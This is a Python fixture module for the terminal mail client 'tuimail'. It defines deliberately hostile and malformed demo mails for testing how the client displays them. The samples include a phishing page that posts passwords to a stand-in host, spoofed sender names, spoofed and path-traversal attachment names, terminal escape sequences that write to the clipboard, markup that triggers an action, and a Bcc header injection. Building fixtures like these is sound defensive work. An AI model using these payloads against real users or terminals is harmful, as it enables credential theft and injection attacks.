"""Mail that means harm, or is merely broken: each is harmless here, and each has broken a mail program somewhere.

Nothing in it points to a real host: domains are of RFC 2606, and the files are a few bytes of text.
"""

from __future__ import annotations

from tuimail.demo.samples.builder import File, Mail
from tuimail.demo.samples.people import OWNER, Person

_PRIZES = Person("Lottery Directorate", "winner@prizes.example")
_BANK = Person("First Analytical Bank", "security@bank-verify.example")
_INVOICES = Person("Accounts", "billing@invoices.example")
_CURIOUS = Person("Mallory", "mallory@sidechannel.example")

_TEXT_EXECUTABLE = b"MZ\x90\x00 this is not a program, it only begins like one\r\n"


def mails() -> list[Mail]:
    """All of them."""
    return [*_junk(), *_attachments(), *_displays(), *_broken()]


def _junk() -> list[Mail]:
    phishing = """<html><body>
<p>Dear customer,</p>
<p>we noticed an <b>unusual sign-in</b>. Your account will be <font color="red">closed in 24 hours</font>.</p>
<p><a href="http://198.51.100.23/bank/login.php?u=ada%40example.org">https://www.bank.example/secure</a></p>
<p><a href="https://www.bank.example.verify-login.example/">bank.example</a> ·
<a href="https://www.bаnk.example/">www.bank.example</a></p>
<form action="http://198.51.100.23/collect"><input name="password" type="password">
<input type="submit" value="Confirm"></form>
<script>document.location = 'http://198.51.100.23/'</script>
<img src="http://198.51.100.23/seen.gif?ada" width="1" height="1">
</body></html>"""
    return [
        Mail(
            _BANK,
            "Action required: confirm your account",
            "",
            "7h",
            html=phishing,
            flags="",
            headers=(
                ("Reply-To", "helpdesk@collect.example"),
                (
                    "Authentication-Results",
                    "mx.example.org; spf=fail; dkim=none; dmarc=fail header.from=bank-verify.example",
                ),
            ),
        ),
        Mail(
            _PRIZES,
            "CONGRATULATIONS!!! You have WON 18,430,710 (eighteen million)",
            """
DEAR LUCKY WINNER,

Your e-mail address was drawn from a drum of 25,000 addresses by a blindfolded
official of high rank. To set the transfer free we need only

 1. your full name
 2. your mother's engine
 3. a small fee for the drum

Keep this CONFIDENTIAL until the money has arrived.

Dr. Prosper Fortune
""",
            "1d 03:14",
            mailbox="Junk",
            flags="S",
        ),
        Mail(
            Person("P\u200bayPaI Service", "service@paypaI.example"),
            "Yоur recеipt",  # with two Cyrillic letters
            "Thank you for your payment of 499.00. If this was not you, call the number that we do not give.\n",
            "2d 05:00",
            mailbox="Junk",
            flags="",
        ),
        Mail(
            Person("Ada Byron", "ada.byron.8841@freemail.example"),
            "quick favour",
            "Are you at your desk? I need six gift cards before three o'clock and cannot talk.\n\nAda\n\nSent "
            "from my loom\n",
            "3d 14:00",
            mailbox="Junk",
            flags="",
            headers=(("Reply-To", "cards@collect.example"),),
        ),
    ]


def _attachments() -> list[Mail]:
    spaced = File(
        "invoice.exe",
        "application/pdf",
        _TEXT_EXECUTABLE,
        raw_headers="""
Content-Type: application/pdf; name="invoice.pdf                                                  .exe"
Content-Transfer-Encoding: base64
Content-Disposition: attachment;
 filename="invoice.pdf                                                  .exe"
""",
    )
    reversed_name = File("scan.exe", "image/jpeg", _TEXT_EXECUTABLE, raw_headers=_named("scan_\u202egpj.exe"))
    climbing = File(
        "passwd",
        "text/plain",
        b"root:x:0:0:not the real one\n",
        raw_headers="""
Content-Type: text/plain; name="../../etc/passwd"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="../../../../etc/passwd"
""",
    )
    hidden = File(
        "profile",
        "text/plain",
        b"echo hello\n",
        raw_headers="""
Content-Type: text/plain
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename=".bash_profile"
""",
    )
    wrong_type = File("photo.jpg", "image/jpeg", b"#!/bin/sh\necho 'a picture that can be run'\n")
    return [
        Mail(
            _INVOICES,
            "Invoice 2024-1107, overdue",
            "Please find the overdue invoice attached. Payment within 24 hours avoids proceedings.\n",
            "6h",
            files=(spaced,),
            flags="",
        ),
        Mail(
            _INVOICES,
            "Your scan from the copier, 3 files",
            "Three files were scanned on floor 2. There is no floor 2.\n",
            "1d 12:12",
            files=(reversed_name, climbing, hidden, wrong_type),
            flags="",
        ),
    ]


def _named(name: str) -> str:
    """Headers with a file name in RFC 2231, every octet escaped."""
    escaped = "".join(f"%{octet:02X}" for octet in name.encode("utf-8"))
    return (
        "Content-Type: image/jpeg\nContent-Transfer-Encoding: base64\n"
        f"Content-Disposition: attachment; filename*=utf-8''{escaped}"
    )


def _displays() -> list[Mail]:
    return [
        Mail(
            _CURIOUS,
            "",
            "",
            "5h",
            raw="""
Date: {date}
From: "\x1b]0;owned\x07\x1b[31mMallory\x1b[0m" <mallory@sidechannel.example>
To: Ada Byron <ada@example.org>
Subject: Does your \x1b[5mterminal\x1b[0m blink? \x1b]52;c;ZWNobyBoaQ==\x07\x9b31m
Message-ID: {id}
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

If the line above is red, blinks, or has changed the title of your window,
your mail program hands every byte of a stranger to your terminal.

Here are some more: [\x1b[2J] [\x1b[1A] [\x07] [\x08\x08\x08] [\xc2\x9b31m] [\xe2\x80\xae drow siht].

tuimail shows none of them as anything but text.
""",
            flags="",
        ),
        Mail(
            _CURIOUS,
            "[@click=app.quit]Free book[/] and [b]bold[/b] promises [/]",
            """
The subject is markup of a toolkit: in some programs one click on it would run
an action, and the lone [/] would end the program by itself.

[link=https://sidechannel.example]A link[/link], [red]red[/red], [$nothing].
""",
            "9h",
            flags="",
        ),
        Mail(
            Person("gro.elpmaxe@ada \u202eecarG", "mallory@sidechannel.example"),
            "Read me from \u202ethe right\u202c, \u2066please\u2069",
            "Two names in one: what you see, and what is there. The address in the header card is the true one.\n",
            "1d 13:00",
            flags="S",
        ),
    ]


def _broken() -> list[Mail]:
    return [
        Mail(
            OWNER,
            "",
            "",
            "18d 07:07",
            raw="""
Date: {date}
From: caf\xe9 au lait <\xe9@bro ken.example>, "
To: undisclosed-recipients:;
Subject: =?utf-8?Q?caf=ED=B3=A9?= =?x-unknown?B?////?= =?utf-8?B?4pi6?= na\xefve =?utf-8?q?=0D=0ABcc:_evil@x.example?=
Message-ID: <>
MIME-Version: 1.0
Content-Type: text/plain; charset="x-klingon"
Content-Transfer-Encoding: 8bit

The headers of this mail break four rules, and its charset is not of this
world: caf\xe9, na\xefve. It is shown as well as it can be.
""",
            flags="S",
            mailbox="Archive",
        ),
        Mail(
            OWNER,
            "",
            "",
            "19d 07:07",
            raw="""
Date: Thu, 35 Foo 2024 25:61:00 +9999
From: Half a message <half@broken.example>
To: Ada Byron <ada@example.org>
Subject: This multipart was never closed
Message-ID: {id}
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="abyss"

--abyss
Content-Type: text/plain; charset=utf-8

The date does not exist, and the last boundary is missing: somebody pulled the
plug. What had arrived is still worth reading.

--abyss
Content-Type: application/octet-stream; name=half.bin
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename=half.bin

SGFsZiBhIGZpbGUgaXMgYmV0dGVyIHRoYW4g
bm8gZmls
""",
            flags="S",
            mailbox="Archive",
        ),
    ]
